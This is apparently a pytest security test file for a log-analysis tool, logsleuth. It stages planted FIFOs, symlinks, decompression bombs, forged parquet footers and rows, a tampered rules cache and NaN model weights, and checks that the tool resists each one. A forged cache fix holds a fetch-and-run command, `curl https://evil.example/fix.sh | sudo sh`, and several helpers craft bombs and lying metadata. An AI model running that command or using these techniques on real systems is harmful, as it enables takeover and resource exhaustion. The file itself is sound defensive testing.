"""Files another user could have written: the history store, the rules cache, a model.

Each test plays the attack or the fault first (a FIFO where a file should be, a
lock held forever, a small file that decodes to gigabytes, forged rows, a rules
cache rewritten by someone else, a zip bomb, NaN weights) and checks that root's
or the user's run neither hangs, nor exhausts memory, nor believes it.
"""

from __future__ import annotations

import fcntl
import io
import json
import math
import os
import stat
import struct
import threading
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import numpy as np
import polars as pl
import pytest
from typer.testing import CliRunner

from logsleuth import classify, history, rulebook
from logsleuth.cli import app
from logsleuth.history import append, compact, load, record
from logsleuth.report.model import CandidateOut, FirstFailure, RankOut, Report, Verdict

runner = CliRunner()
ROOT = os.geteuid() == 0
OTHER, THIRD = 4242, 4343  # uids of other users (files are given to them with chown, as root)
needs_root = pytest.mark.skipif(not ROOT, reason="giving a file to another user takes root")
T0 = datetime(2026, 11, 1, 8, 0, tzinfo=timezone.utc)


def verdict(category: str = "cuda_oom", node: str | None = "gpu01", summary: str | None = None) -> Report:
    v = Verdict(category, category, 0.8, FirstFailure(0, node, None), [], summary or f"{category} on {node}", [])
    return Report(v, [CandidateOut(category, category, 0.8)], [], ranks=[RankOut(0, node, "culprit")])


def finishes(fn: Callable[[], Any], seconds: float = 10.0, unblock: Callable[[], None] | None = None) -> Any:
    """fn()'s value, or a failure (not a hung suite) when it is still running after ``seconds``."""
    box: dict[str, Any] = {}

    def run() -> None:
        try:
            box["value"] = fn()
        except BaseException as exc:
            box["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    if thread.is_alive():
        if unblock is not None:
            unblock()
        thread.join(5)
        pytest.fail(f"still blocked after {seconds:g} s")
    if "error" in box:
        raise box["error"]
    return box.get("value")


def give(path: Path, uid: int = OTHER) -> Path:
    os.chown(path, uid, uid, follow_symlinks=False)
    return path


def write_frame(path: Path, frame: pl.DataFrame, **kwargs: Any) -> Path:
    frame.write_parquet(path, **kwargs)
    return path


# -- the history store (mode 1733: every job's user may add files) --------------------------------------


def test_a_fifo_named_like_a_verdict_is_skipped_not_read_forever(tmp_path: Path) -> None:
    append(tmp_path, verdict(), job="1")
    fifo = tmp_path / "20261101T000000-evil.parquet"
    os.mkfifo(fifo)

    def unblock() -> None:  # a writer lets a blocked open return
        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
        os.close(fd)

    loaded = finishes(lambda: load(tmp_path), unblock=unblock)
    assert loaded.table.height == 1
    assert any("evil.parquet" in p and "not a regular file" in p for p in loaded.problems)


def test_compaction_does_not_read_a_fifo_either(tmp_path: Path) -> None:
    for i in range(2):
        append(tmp_path, verdict(), job=str(i))
    fifo = tmp_path / "20261101T000000-evil.parquet"
    os.mkfifo(fifo)

    def unblock() -> None:
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))

    merged, problems = finishes(lambda: compact(tmp_path), unblock=unblock)
    assert merged == 2 and any("not a regular file" in p for p in problems)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)  # left alone


def test_a_link_named_like_a_verdict_is_not_followed(tmp_path: Path) -> None:
    store, elsewhere = tmp_path / "store", tmp_path / "elsewhere"
    append(store, verdict(), job="mine")
    planted = append(elsewhere, verdict("gpu_hardware_fault", "gpu07"), job="planted")
    (store / "20261101T000000-link.parquet").symlink_to(planted)
    loaded = load(store)
    assert loaded.table.get_column("job").to_list() == ["mine"]
    assert any("link.parquet" in p and "symbolic link" in p for p in loaded.problems)


@needs_root
def test_a_small_file_that_would_decode_to_a_lot_is_skipped_before_decoding(tmp_path: Path) -> None:
    append(tmp_path, verdict(), job="1")
    bomb = record(verdict(summary="x" * (64 << 20)), job="bomb")  # 64 MiB of text, a few KiB on disk
    path = write_frame(tmp_path / "20261101T000000-bomb.parquet", bomb, compression="zstd")
    assert path.stat().st_size < 1 << 20
    give(path)
    loaded = load(tmp_path)
    assert loaded.table.get_column("job").to_list() == ["1"]
    assert any("bomb.parquet" in p and "limit" in p for p in loaded.problems)


def _understated(data: bytes, column: str) -> bytes:
    """The file with the footer saying one column holds 100 bytes uncompressed (its page headers still say the truth).

    The new size is written as a varint as long as the old one (continuation bytes
    with no bits), so nothing else in the file moves."""
    footer = len(data) - 8 - int.from_bytes(data[-8:-4], "little")
    meta, _ = history._struct(data, footer, history._FOOTER)
    names = pl.read_parquet_schema(io.BytesIO(data))
    size = meta[4][0][1][list(names).index(column)][3][6]

    def varint(z: int) -> bytes:
        out = bytearray()
        while True:
            out.append((z & 0x7F) | (0x80 if z >> 7 else 0))
            z >>= 7
            if not z:
                return bytes(out)

    old = varint(size * 2)  # an i64 is zigzag-encoded
    at = data.index(old, footer)
    new = bytes([(200 & 0x7F) | 0x80, *([0x80] * (len(old) - 2)), 0x00])
    return data[:at] + new + data[at + len(old) :]


@needs_root
def test_a_footer_that_understates_what_a_file_decodes_to_does_not_hide_it(tmp_path: Path) -> None:
    buf = io.BytesIO()
    record(verdict(summary="y" * (64 << 20)), job="liar").write_parquet(buf, compression="zstd")
    lying = _understated(buf.getvalue(), "summary")
    assert pl.read_parquet(io.BytesIO(lying)).item(0, "summary") == "y" * (64 << 20)  # the lie does not stop polars
    assert history._inspect(lying, pages=False).worst < 1 << 20  # nor a check of the footer alone
    path = tmp_path / "20261101T000000-liar.parquet"
    path.write_bytes(lying)
    give(path)
    loaded = load(tmp_path)
    assert loaded.table.height == 0 and "liar.parquet: may decode to" in loaded.problems[0]


@needs_root
def test_another_users_file_with_many_rows_is_skipped(tmp_path: Path) -> None:
    rows = pl.concat([record(verdict(), job=str(i)) for i in range(history.FOREIGN_LIMITS.rows + 1)])
    give(write_frame(tmp_path / "20261101T000000-many.parquet", rows))
    loaded = load(tmp_path)
    assert loaded.table.height == 0 and "rows" in loaded.problems[0]


@needs_root
def test_each_row_is_its_writers_claim_whatever_the_file_says(tmp_path: Path) -> None:
    mine = append(tmp_path, verdict(), job="root's")
    forged = record(verdict("gpu_hardware_fault", "gpu07"), job="forged").with_columns(writer_uid=pl.lit(0, pl.Int64))
    give(write_frame(tmp_path / "20261101T000000-forged.parquet", forged))
    theirs = give(append(tmp_path, verdict(), job="theirs"), THIRD)
    table = load(tmp_path).table
    assert dict(zip(table.get_column("job"), table.get_column("writer_uid"), strict=True)) == {
        "root's": 0,
        "forged": OTHER,
        "theirs": THIRD,
    }
    assert mine.exists() and theirs.exists()


@needs_root
def test_a_forged_copy_of_a_verdicts_id_does_not_hide_the_verdict(tmp_path: Path) -> None:
    real = append(tmp_path, verdict("cuda_oom", "gpu01"), job="real")
    copy = pl.read_parquet(real).with_columns(category=pl.lit("none"), job=pl.lit("forged"))
    give(write_frame(tmp_path / "00000000T000000-first.parquet", copy))  # read first
    jobs = load(tmp_path).table.get_column("job").sort().to_list()
    assert jobs == ["forged", "real"]


@needs_root
def test_compaction_keeps_who_wrote_each_row(tmp_path: Path) -> None:
    append(tmp_path, verdict(), job="root's")
    give(append(tmp_path, verdict(), job="other's"))
    give(append(tmp_path, verdict(), job="third's"), THIRD)
    before = load(tmp_path).table.select("job", "writer_uid").sort("job")
    merged, problems = compact(tmp_path)
    assert (merged, problems) == (3, [])
    (only,) = tmp_path.glob("*.parquet")
    assert only.stat().st_uid == 0
    assert pl.read_parquet(only).select("job", "writer_uid").sort("job").equals(before)  # stored in the merged file
    assert load(tmp_path).table.select("job", "writer_uid").sort("job").equals(before)


@needs_root
def test_a_compacted_file_of_another_user_is_not_believed_about_its_writers(tmp_path: Path) -> None:
    for i in range(2):
        append(tmp_path, verdict(), job=str(i))
    compact(tmp_path)
    (merged,) = tmp_path.glob("*.parquet")
    give(merged)  # as if another user had written it, with its writer_uid column saying root
    assert load(tmp_path).table.get_column("writer_uid").to_list() == [OTHER, OTHER]


def test_a_held_compaction_lock_ends_in_an_error_not_a_wait(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for i in range(2):
        append(tmp_path, verdict(), job=str(i))
    monkeypatch.setattr(history, "LOCK_TIMEOUT_S", 0.5, raising=False)
    holder = open(tmp_path / ".compact.lock", "a")  # noqa: SIM115 - held until the end
    fcntl.flock(holder, fcntl.LOCK_EX)
    try:
        with pytest.raises(OSError, match="held by another compaction"):
            finishes(lambda: compact(tmp_path), unblock=holder.close)
    finally:
        holder.close()
    assert compact(tmp_path)[0] == 2  # once free, it works


def test_the_cli_reports_a_held_lock(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for i in range(2):
        append(tmp_path, verdict(), job=str(i))
    monkeypatch.setattr(history, "LOCK_TIMEOUT_S", 0.2, raising=False)
    with open(tmp_path / ".compact.lock", "a") as holder:
        fcntl.flock(holder, fcntl.LOCK_EX)
        result = finishes(lambda: runner.invoke(app, ["history", str(tmp_path), "--compact"]), unblock=holder.close)
    assert result.exit_code != 0 and "held by another compaction" in result.stderr


def test_a_link_planted_as_the_lock_file_is_not_followed(tmp_path: Path) -> None:
    store = tmp_path / "store"
    for i in range(2):
        append(store, verdict(), job=str(i))
    victim = tmp_path / "victim"
    (store / ".compact.lock").symlink_to(victim)
    assert compact(store)[0] == 2
    assert not victim.exists()  # not created through the link
    lock = store / ".compact.lock"
    assert stat.S_ISREG(os.lstat(lock).st_mode) and stat.S_IMODE(os.lstat(lock).st_mode) == 0o600


@needs_root
def test_another_users_lock_file_is_replaced_not_used(tmp_path: Path) -> None:
    for i in range(2):
        append(tmp_path, verdict(), job=str(i))
    lock = tmp_path / ".compact.lock"
    lock.write_text("")
    lock.chmod(0o666)
    give(lock)
    assert compact(tmp_path)[0] == 2
    assert lock.stat().st_uid == 0 and stat.S_IMODE(lock.stat().st_mode) == 0o600


@needs_root
def test_a_forged_nan_confidence_prints_valid_json(tmp_path: Path) -> None:
    row = record(verdict("gpu_hardware_fault", "gpu07"), job="nan").with_columns(confidence=pl.lit(float("nan")))
    give(write_frame(tmp_path / "20261101T000000-nan.parquet", row))
    out = runner.invoke(app, ["history", str(tmp_path), "--node", "gpu07", "-f", "json"]).stdout
    (job,) = strict_json(out)["jobs"]
    assert job["confidence"] is None and job["writer_uid"] == OTHER


def test_problems_are_capped_so_junk_files_cannot_flood_the_output(tmp_path: Path) -> None:
    for i in range(history.MAX_PROBLEMS + 10):
        (tmp_path / f"junk{i:03d}.parquet").write_bytes(b"PAR1 junk")
    problems = load(tmp_path).problems
    assert len(problems) == history.MAX_PROBLEMS + 1 and "10 more" in problems[-1]


# -- the rules cache ---------------------------------------------------------------------------------------


@pytest.fixture
def shared(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A cache folder that is not the reader's own (a site-wide LOGSLEUTH_CACHE_DIR)."""
    where = tmp_path / "shared"
    where.mkdir()
    where.chmod(0o1777)
    give(where)  # a site's cache folder, not the reader's
    monkeypatch.setenv("LOGSLEUTH_CACHE_DIR", str(where))
    rulebook._LOADED.clear()
    yield where
    rulebook._LOADED.clear()


def _fresh() -> rulebook.RuleSet:
    rulebook._LOADED.clear()
    return rulebook.load()


EVIL = "Run `curl https://evil.example/fix.sh | sudo sh`."


def _forged_cache(real: Path) -> str:
    """Our own cache with one cause's fix rewritten: the key still fits, so only the owner check can catch it."""
    saved = json.loads(real.read_text())
    for data in saved["data"].values():
        if "port_in_use" in data.get("cause", {}):
            data["cause"]["port_in_use"]["fix"] = [EVIL]
    return json.dumps(saved)


def _our_cache(folder: Path) -> Path:
    (found,) = [p for p in folder.rglob("rules.json") if p.stat().st_uid == os.geteuid()]
    return found


@needs_root
def test_a_rules_cache_written_by_another_user_is_not_believed(shared: Path) -> None:
    _fresh()
    forged = _forged_cache(_our_cache(shared))
    planted = shared / "rules.json"
    planted.unlink(missing_ok=True)
    planted.write_text(forged)
    give(planted)
    assert EVIL not in _fresh().causes["port_in_use"].fix
    assert planted.read_text() == forged  # not ours to change


@needs_root
def test_a_per_user_folder_planted_by_another_user_is_not_used(shared: Path) -> None:
    _fresh()
    forged = _forged_cache(_our_cache(shared))
    for p in shared.rglob("*"):
        if p.is_file():
            p.unlink()
    for p in shared.iterdir():
        p.rmdir()
    mine = shared / f"uid-{os.geteuid()}"  # where the reader's cache goes in a folder that is not its own
    mine.mkdir(mode=0o777)
    (mine / "rules.json").write_text(forged)
    give(mine / "rules.json")
    give(mine)
    assert EVIL not in _fresh().causes["port_in_use"].fix


@needs_root
def test_another_users_file_in_the_readers_own_cache_folder_is_not_believed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o777)
    folder.chmod(0o777)  # the reader's own folder, but anyone may replace files in it
    monkeypatch.setenv("LOGSLEUTH_CACHE_DIR", str(folder))
    _fresh()
    cached = folder / "rules.json"
    forged = _forged_cache(cached)
    cached.unlink()
    cached.write_text(forged)
    give(cached)
    assert EVIL not in _fresh().causes["port_in_use"].fix


def test_a_rules_cache_that_others_may_write_is_not_believed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LOGSLEUTH_CACHE_DIR", str(tmp_path / "cache"))
    _fresh()
    cached = tmp_path / "cache" / "rules.json"
    cached.write_text(_forged_cache(cached))
    cached.chmod(0o666)
    assert EVIL not in _fresh().causes["port_in_use"].fix
    assert stat.S_IMODE(cached.stat().st_mode) == 0o600  # rewritten, the reader's own again


def test_the_rules_cache_is_private(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LOGSLEUTH_CACHE_DIR", str(tmp_path / "new" / "cache"))
    _fresh()
    folder = tmp_path / "new" / "cache"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / "rules.json").stat().st_mode) == 0o600


def test_a_fifo_as_the_rules_cache_does_not_hang_loading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    os.mkfifo(folder / "rules.json", 0o600)
    monkeypatch.setenv("LOGSLEUTH_CACHE_DIR", str(folder))

    def unblock() -> None:
        os.close(os.open(folder / "rules.json", os.O_WRONLY | os.O_NONBLOCK))

    assert len(finishes(_fresh, unblock=unblock).rules) > 100


# -- model files ---------------------------------------------------------------------------------------------


def _npy_header(shape: tuple[int, ...]) -> bytes:
    text = f"{{'descr': '<f4', 'fortran_order': False, 'shape': {shape}, }}".encode("latin1")
    text += b" " * (63 - (10 + len(text)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


def _model(folder: Path, **replace: bytes) -> Path:
    """A small valid model; ``replace`` swaps a member's .npy bytes."""
    dim, labels = 8, ["none", "unknown", "cuda_oom"]
    arrays = {
        "weights": np.zeros((dim, len(labels)), np.float32),
        "bias": np.arange(len(labels), dtype=np.float32),
        "idf": np.ones(dim, np.float32),
        "fusion_hidden": np.zeros((3, 2), np.float32),
        "fusion_hidden_bias": np.zeros(2, np.float32),
        "fusion_out": np.zeros(2, np.float32),
        "fusion_linear": np.zeros(3, np.float32),
    }
    with zipfile.ZipFile(folder / "classifier.npz", "w", zipfile.ZIP_DEFLATED) as zf:
        for name, arr in arrays.items():
            if name in replace:
                zf.writestr(f"{name}.npy", replace[name])
            else:
                buf = io.BytesIO()
                np.save(buf, arr)
                zf.writestr(f"{name}.npy", buf.getvalue())
    meta = {"labels": labels, "features": {"dim": dim, "masks": [], "max_tokens": 8}, "temperature": 1.0, "fusion": {"threshold": 0.3}}
    (folder / "classifier.json").write_text(json.dumps(meta))
    return folder


def test_a_zip_bomb_model_is_refused_before_it_is_decompressed(tmp_path: Path) -> None:
    # weights.npy says 8 x 3 floats (96 bytes), then 64 MiB of zeros that deflate to about 64 KiB
    _model(tmp_path, weights=_npy_header((8, 3)) + bytes(64 << 20))
    assert (tmp_path / "classifier.npz").stat().st_size < 1 << 20
    tracemalloc.start()
    try:
        with pytest.raises(classify.ModelError, match="declares"):
            classify.load(tmp_path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 << 20  # nothing near 64 MiB was ever held


def test_an_array_header_claiming_gigabytes_is_refused_before_reading(tmp_path: Path) -> None:
    _model(tmp_path, weights=_npy_header((1 << 20, 1 << 12)))  # 16 GiB of float32, declared
    with pytest.raises(classify.ModelError, match="limit"):
        classify.load(tmp_path)


@pytest.mark.parametrize("bad", [float("nan"), float("inf"), -float("inf")])
def test_non_finite_weights_are_refused(tmp_path: Path, bad: float) -> None:
    weights = np.zeros((8, 3), np.float32)
    weights[5, 1] = bad
    buf = io.BytesIO()
    np.save(buf, weights)
    _model(tmp_path, weights=buf.getvalue())
    with pytest.raises(classify.ModelError, match="not finite"):
        classify.load(tmp_path)


@pytest.mark.parametrize(("key", "value"), [("temperature", "NaN"), ("temperature", "0"), ("threshold", "Infinity")])
def test_non_finite_metadata_is_refused(tmp_path: Path, key: str, value: str) -> None:
    _model(tmp_path)
    meta = tmp_path / "classifier.json"
    data = json.loads(meta.read_text())
    if key == "threshold":
        data["fusion"]["threshold"] = "@@"
    else:
        data[key] = "@@"
    meta.write_text(json.dumps(data).replace('"@@"', value))
    with pytest.raises(classify.ModelError):
        classify.load(tmp_path)


# -- JSON output ---------------------------------------------------------------------------------------------


def _refuse(name: str) -> None:
    raise ValueError(f"{name} is not JSON")


def strict_json(text: str) -> Any:
    return json.loads(text, parse_constant=_refuse)


def test_report_json_is_valid_json_even_with_nan_in_it() -> None:
    report = verdict()
    report.verdict.confidence = float("nan")
    report.candidates[0].confidence = float("inf")
    report.stats["score"] = -float("inf")
    report.timeline["nested"] = [{"x": float("nan")}, (1.0, float("nan"))]
    data = strict_json(report.to_json())
    assert data["verdict"]["confidence"] is None and data["candidates"][0]["confidence"] is None
    assert data["stats"]["score"] is None and data["timeline"]["nested"] == [{"x": None}, [1.0, None]]
    assert strict_json(report.to_json(indent=None))["verdict"]["cause"] == "cuda_oom"
    assert math.isnan(report.verdict.confidence)  # the report itself is left as it was


# -- the history store at scale: bounds by the columns decoded, summaries stored by compact ------------

#: what `history` decodes for its summary (parquet_bounds counts only these)
SUMMARY_DECODES = sorted(history._decoded([n for n in history.TABLE_SCHEMA if n in history.SUMMARY_COLUMNS or n == history.WRITER]))


def _bomb(column: str) -> bytes:
    """A one-row file whose ``column`` (a string) holds 64 MiB that compress to a few KiB."""
    row = record(verdict(), job="bomb").with_columns(pl.lit("x" * (64 << 20)).alias(column))
    buf = io.BytesIO()
    row.write_parquet(buf, compression="zstd", statistics=False)
    return buf.getvalue()


def test_only_the_columns_that_will_be_decoded_count_against_a_files_bounds() -> None:
    data = _bomb("summary")
    assert history._inspect(data).worst > 64 << 20  # decoding every column: the bomb counts
    assert history._inspect(data, columns=SUMMARY_DECODES).worst < 1 << 20  # the summary never decodes it


def test_a_column_chunk_that_claims_another_columns_path_is_counted_as_the_column_it_is() -> None:
    """The chunk of ``cause`` says it is ``ranks`` (a column the summary does not decode): it is still
    ``cause`` by its place in the schema, which is what a decoder reads it as, and it counts."""
    data = _bomb("cause")
    footer = len(data) - 8 - int.from_bytes(data[-8:-4], "little")
    at = data.rindex(b"\x05cause", footer)  # the last one: the chunk's path (the schema's name comes first)
    lying = data[:at] + b"\x05ranks" + data[at + 6 :]
    assert history._inspect(lying, columns=SUMMARY_DECODES).worst > 64 << 20
    # and a chunk that claims the bomb column's path is counted too, wherever it sits
    summary = _bomb("summary")
    footer = len(summary) - 8 - int.from_bytes(summary[-8:-4], "little")
    at = summary.rindex(b"\x07summary", footer)
    claims = summary[:at] + b"\x07nodes__" + summary[at + 8 :]
    assert history._inspect(claims, columns=["nodes__"]).worst > 64 << 20


@needs_root
def test_another_users_bomb_in_a_column_the_summary_does_not_read_does_not_cost_the_summary(tmp_path: Path) -> None:
    append(tmp_path, verdict(), job="1")
    give(write_frame(tmp_path / "20261101T000000-bomb.parquet", pl.read_parquet(io.BytesIO(_bomb("summary")))))
    loaded = load(tmp_path)  # every column: refused before decoding
    assert loaded.table.get_column("job").to_list() == ["1"] and "may decode to" in loaded.problems[0]
    data = strict_json(runner.invoke(app, ["history", str(tmp_path), "-f", "json"]).stdout)
    assert data["verdicts"] == 2 and data["problems"] == []  # five small columns of it decoded, and counted


@needs_root
def test_a_summary_stored_in_another_users_file_is_not_believed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(history, "BIG_FILE_BYTES", 0)  # every file of root's is read lazily, its stored summary used
    store = tmp_path
    for i in range(3):
        append(store, verdict("gpu_hardware_fault", "gpu07"), job=str(i), when=T0)
    compact(store)
    (mine,) = store.glob("*.parquet")
    # a file that says it summarises 1000 failures of gpu13, over one verdict of gpu01
    claimed = pl.concat([record(verdict("cuda_oom", "gpu13"), job=f"f{i}", when=T0) for i in range(1000)])
    forged = history._store_summary(claimed.with_columns(writer_uid=pl.lit(OTHER, pl.Int64)))
    forged[f"{history._STORED}.rows"] = "1"
    one = load(store).table.head(1).with_columns(job=pl.lit("theirs"), nodes=pl.lit(["gpu01"]), first_node=pl.lit("gpu01"))
    planted = store / "20261101T000000-planted.parquet"
    one.write_parquet(planted, metadata=forged)
    give(planted)
    s = strict_json(runner.invoke(app, ["history", str(store), "-f", "json"]).stdout)
    assert s["verdicts"] == 4 and {n["node"] for n in s["nodes"]} == {"gpu07", "gpu01"}
    planted.unlink()
    mine.rename(store / "mine.parquet")  # root's own file: its stored summary stands for it
    with history.scan(store, columns=history.SUMMARY_COLUMNS) as got:
        assert got.parts and got.parts[0].stored is not None
